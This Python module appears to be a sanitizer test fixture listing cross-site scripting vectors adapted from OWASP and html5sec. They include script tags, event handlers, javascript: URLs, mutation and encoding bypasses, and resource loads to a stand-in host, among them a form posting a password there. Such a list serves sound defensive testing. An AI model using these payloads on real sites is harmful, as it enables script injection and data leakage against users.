"""HTML that tries to run a script or to reach out, in the ways of OWASP's and html5sec's collections, written anew.

Each calls ``alert`` or names the host OUT when it gets through; ``{out}`` stands for an address there.
"""

from __future__ import annotations

OUT = "out.tracker.test"

_SCRIPTS = """
<script>alert(1)</script>
<SCRIPT SRC={out}/a.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script/x>alert(1)</script/x>
<script\t>alert(1)</script\f>
<svg><script>alert(1)</script></svg>
<svg><script href={out}/a.js />
<math><script>alert(1)</script></math>
<script type=module src={out}/m.js></script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<script>/*</div>*/alert(1)
"""
_HANDLERS = """
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">
<img src=`x` onerror=`alert(1)`>
<img alt='`' src=x` onerror=alert(1)//`>
<img src='cid:x' onload='alert(1)' onerror='alert(1)'>
<img data-src=x" onerror="alert(1)>
<img src='x" onerror="alert(1)'>
<img src="x&quot; onerror=&quot;alert(1)">
<img title="--><img src=x onerror=alert(1)>">
<p title='</p><img src=x onerror=alert(1)>'>x</p>
<body onload=alert(1)>
<body onpageshow=alert(1) background={out}/b.png>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x></svg>
<details open ontoggle=alert(1)><summary>x</summary></details>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<a href=# autofocus tabindex=1 onfocus=alert(1)>x</a>
<div contenteditable autofocus onfocus=alert(1)>x</div>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1) onloadstart=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<iframe onload=alert(1)></iframe>
<object onerror=alert(1) data=x></object>
<embed onload=alert(1) src=x>
<style onload=alert(1)>p{}</style>
<link rel=stylesheet href=data:, onload=alert(1)>
<div style="animation:x 1s" onanimationstart=alert(1)>x</div>
<div onwebkitanimationstart=alert(1) style="-webkit-animation:x 1s">x</div>
<div popover onbeforetoggle=alert(1)>x</div>
<table><tr><td onmouseover=alert(1)>x</td></tr></table>
<form onformdata=alert(1)><button>x</button></form>
<dialog open onclose=alert(1)>x</dialog>
"""
_ADDRESSES = """
<a href=javascript:alert(1)>go</a>
<a href="JaVaScRiPt:alert(1)">go</a>
<a href="java\tscript:alert(1)">go</a>
<a href="java&#10;script:alert(1)">go</a>
<a href="&#106;&#x61;vascript&colon;alert(1)">go</a>
<a href=" &#1; javascript:alert(1)">go</a>
<a href="javascript&#0;:alert(1)">go</a>
<a href="vbscript:alert(1)">go</a>
<a href="data:text/html,<script>alert(1)</script>">go</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">go</a>
<a href="blob:x">go</a>
<a href="//{host}/x" ping={out}/ping>go</a>
<a xlink:href=javascript:alert(1)>go</a>
<svg><a xlink:href=javascript:alert(1)><text y=20>go</text></a></svg>
<math><mtext href=javascript:alert(1)>go</mtext></math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src=javascript:alert(1)></frameset>
<object data=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<form action=javascript:alert(1)><input type=submit id=x></form><button form=x>go</button>
<isindex action=javascript:alert(1) type=image>
<base href=javascript:/0/><a href=/,alert(1)>go</a>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url={out}/refresh">
<img src=javascript:alert(1)>
<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>
<table background=javascript:alert(1)><tr><td background={out}/td.png>x</td></tr></table>
"""
_REACHING = """
<img src={out}/pixel.gif>
<img srcset="{out}/1.png 1x, {out}/2.png 2x">
<picture><source srcset={out}/p.png><img src={out}/q.png></picture>
<image src={out}/image.png>
<input type=image src={out}/input.png>
<video poster={out}/poster.png src={out}/v.mp4></video>
<audio src={out}/a.mp3 autoplay></audio>
<video><track default src={out}/t.vtt></video>
<svg><image href={out}/svg.png /></svg>
<svg><use href={out}/use.svg#x /></svg>
<svg><feImage href={out}/fe.png /></svg>
<link rel=stylesheet href={out}/s.css>
<link rel=prefetch href={out}/prefetch><link rel=dns-prefetch href={out}><link rel=preconnect href={out}>
<link rel=icon href={out}/icon.png><link rel=manifest href={out}/manifest>
<style>@import "{out}/import.css"; p {{ background: url({out}/bg.png) }}</style>
<p style="background:url({out}/style.png)">x</p>
<p style="background-image:\\75rl({out}/escaped.png)">x</p>
<p style="background:image-set('{out}/set.png' 1x)">x</p>
<p style="list-style:url({out}/list.png);content:url({out}/content.png);cursor:url({out}/c.cur),auto">x</p>
<p style="color:red;b&#97;ckground-color:url({out}/colour.png)">x</p>
<p style="font-family:'x';src:url({out}/font.woff)">x</p>
<iframe src={out}/frame></iframe>
<object data={out}/object></object>
<embed src={out}/embed>
<base href={out}/><img src=relative.png>
<bgsound src={out}/sound.wav>
<html manifest={out}/cache.manifest>
<form action={out}/form><input name=password><button autofocus>go</button></form>
<applet codebase={out} code=x></applet>
<portal src={out}/portal></portal>
<fencedframe src={out}/ff></fencedframe>
<body background={out}/body.png>
<a href=https://x.test/ ping={out}/ping2>x</a>
<p><![CDATA[<img src={out}/cdata.png>]]></p>
<!--[if gte IE 4]><img src={out}/mso.png><![endif]-->
<!--><img src={out}/comment.png>-->
<?xml-stylesheet href="{out}/xml.css"?>
<![endif]--><img src=x onerror=alert(1)>
"""
_MUTATIONS = """
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<select><style></select><img src=x onerror=alert(1)></style>
<table><style><img src=x onerror=alert(1)></style></table>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>
<blockquote></details><script>alert(1)</script></blockquote>
<blockquote cite="javascript:alert(1)"><img alt="</blockquote><img src=x onerror=alert(1)>"></blockquote>
<details><summary><img src=x onerror=alert(1)></summary></details>
<div id=x></div><div name=getElementById></div><a id=location href=javascript:alert(1)>go</a>
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
\u2028<script>alert(1)</script>\u2029
<\u0000script>alert(1)</script>
<img src=x onerror\u000c=alert(1)>
"""


def vectors() -> list[str]:
    lines = "".join((_SCRIPTS, _HANDLERS, _ADDRESSES, _REACHING, _MUTATIONS)).split("\n")
    return [
        line.replace("{out}", f"https://{OUT}").replace("{host}", OUT).replace("{{", "{").replace("}}", "}")
        for line in lines
        if line
    ]
